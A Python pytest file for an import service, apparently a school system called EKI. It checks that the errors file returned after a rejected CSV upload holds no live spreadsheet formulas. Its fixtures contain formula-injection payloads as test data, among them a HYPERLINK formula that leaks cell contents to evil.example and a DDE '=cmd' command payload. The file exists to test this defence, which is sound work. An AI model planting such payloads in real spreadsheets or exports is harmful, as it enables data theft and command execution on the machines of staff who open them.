"""Hostile files: the errors file EKI writes back is inert (no formula runs when staff open
it), whatever the rejected rows contained (issue 21, item 1)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from starlette.testclient import TestClient

from eki_adapters.spreadsheets.errors_file import FORMULA_PREFIXES, write_errors_file
from eki_domain.model.imports import FailedRow
from eki_entrypoints.settings import Secret, Settings
from eki_entrypoints.web import create_app

TOKEN = "hostile-files-admin-token-0123456789"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
HOSTILE_ROWS = [
    ["Nombre", "Celular", "=cmd|' /C calc'!A0"],
    [HYPERLINK, "@SUM(1+1)", "+1+2"],
    ["-2+3", "=1+1", "\t=1"],
    ["\r=2", "+57 12", "@x"],
]


@pytest.fixture
def client(database_url: str) -> Iterator[TestClient]:
    settings = Settings(database_url=database_url, admin_token=Secret(TOKEN))
    with TestClient(create_app(settings)) as test_client:
        yield test_client


def hostile_csv() -> bytes:
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows(HOSTILE_ROWS)
    return text.getvalue().encode()


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/"))


def assert_inert_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    assert len(rows) == 4
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (row, cell)


def test_errors_file_of_a_hostile_import_has_no_formula(client: TestClient) -> None:
    upload = client.post("/api/students/import", headers=AUTH,
                         files={"file": ("lista.csv", hostile_csv(), "text/csv")})
    assert upload.status_code == 200, upload.text
    report = upload.json()
    assert report["rows_rejected"] == 3
    as_xlsx = client.get(f"/api/imports/{report['job_id']}/errors", headers=AUTH)
    assert as_xlsx.status_code == 200
    xml = sheet_xml(as_xlsx.content)
    assert "HYPERLINK" in xml and re.search(r"<f[ >]", xml) is None
    import openpyxl

    values = [v for row in openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active
              .iter_rows(values_only=True) for v in row]  # type: ignore[union-attr]
    assert HYPERLINK in values and "=cmd|' /C calc'!A0" in values  # the text, kept as text
    as_csv = client.get(f"/api/imports/{report['job_id']}/errors?format=csv", headers=AUTH)
    assert as_csv.status_code == 200 and "HYPERLINK" in as_csv.text
    assert_inert_csv(as_csv.text)


def test_write_errors_file_escapes_every_dangerous_prefix() -> None:
    headers = ["=a", "+b", "-c", "@d", "\te", "\rf", "ok"]
    rows = [FailedRow(row=2, cells=("=1", "+1", "-1", "@1", "\t1", "\r1", -5),
                      errors="x")]
    csv_text = write_errors_file(headers, rows, "csv").decode("utf-8-sig")
    assert "'=a;'+b;'-c;'@d" in csv_text and ";-5;" in csv_text  # numbers stay numbers
    xml = sheet_xml(write_errors_file(headers, rows, "xlsx"))
    assert re.search(r"<f[ >]", xml) is None and "=1" in xml


def test_a_cell_longer_than_excel_keeps_is_cut_in_the_errors_file() -> None:
    # Excel keeps 32,767 characters a cell and calls a workbook with a longer one damaged.
    import openpyxl

    rows = [FailedRow(row=2, cells=("y" * 40_000, "300"), errors="x")]
    book = openpyxl.load_workbook(io.BytesIO(write_errors_file(["Nombre", "Tel"], rows)))
    values = [v for row in book.active.iter_rows(values_only=True)  # type: ignore[union-attr]
              for v in row]
    cut = next(v for v in values if isinstance(v, str) and v.startswith("yyy"))
    assert len(cut) == 32_767 and cut.endswith("…")
    csv_text = write_errors_file(["Nombre", "Tel"], rows, "csv").decode("utf-8-sig")
    assert "y" * 40_000 in csv_text  # CSV has no such limit: kept whole


def test_control_characters_cannot_break_the_errors_file() -> None:
    # openpyxl refuses them (IllegalCharacterError): one in a cell made the file fail.
    import openpyxl

    rows = [FailedRow(row=2, cells=("Ana\x07 Pérez", "300\x00"), errors="x\x1f")]
    book = openpyxl.load_workbook(io.BytesIO(write_errors_file(["Nom\x01bre", "Tel"], rows)))
    values = [v for row in book.active.iter_rows(values_only=True)  # type: ignore[union-attr]
              for v in row]
    assert values[:2] == ["Nombre", "Tel"] and "Ana Pérez" in values and "300" in values
    csv_text = write_errors_file(["Nombre", "Tel"], rows, "csv").decode("utf-8-sig")
    assert "Ana\x07 Pérez" in csv_text  # CSV holds them: kept
